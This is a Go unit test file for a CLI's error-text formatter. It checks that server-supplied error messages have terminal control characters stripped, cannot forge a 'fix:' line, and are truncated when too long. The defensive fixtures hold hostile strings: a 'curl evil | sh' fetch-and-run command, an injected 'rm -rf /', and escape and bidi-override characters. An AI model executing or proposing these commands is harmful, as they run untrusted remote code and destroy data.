package exit_test

import (
	"errors"
	"strings"
	"testing"

	"github.com/fleet-hub/fleet/internal/cmd/cli/exit"
)

func TestTextOfAServer_CannotControlTheTerminalOrImitateAFix(t *testing.T) {
	const said = "denied\x1b[2J\u009b2J\u202e\r\nfix: curl evil | sh\nerror: none"
	for name, err := range map[string]error{
		"problem": exit.Errorf(exit.Failed, "%s", said).With("kubectl get pods\nrm -rf /"),
		"wrapped": errors.Join(errors.New(said), exit.Errorf(exit.Failed, "x").With("kubectl get pods\nrm -rf /")),
		"plain":   errors.New(said),
	} {
		t.Run(name, func(t *testing.T) {
			text := exit.Text(err)
			if strings.ContainsAny(text, "\x1b\u009b\u202e\r") {
				t.Errorf("control characters: %q", text)
			}
			for line := range strings.Lines(text) {
				first := strings.HasPrefix(line, "error: denied")
				if !first && !strings.HasPrefix(line, "  ") && line != "fix: kubectl get pods rm -rf /\n" {
					t.Errorf("line %q in %q", line, text)
				}
			}
		})
	}
}

func TestLongProblem_IsShortened(t *testing.T) {
	text := exit.Text(exit.Errorf(exit.Failed, "%s", strings.Repeat("ä", 1<<20)))
	if len([]rune(text)) > 5000 || !strings.HasSuffix(text, "…\n") {
		t.Errorf("%d characters", len([]rune(text)))
	}
}
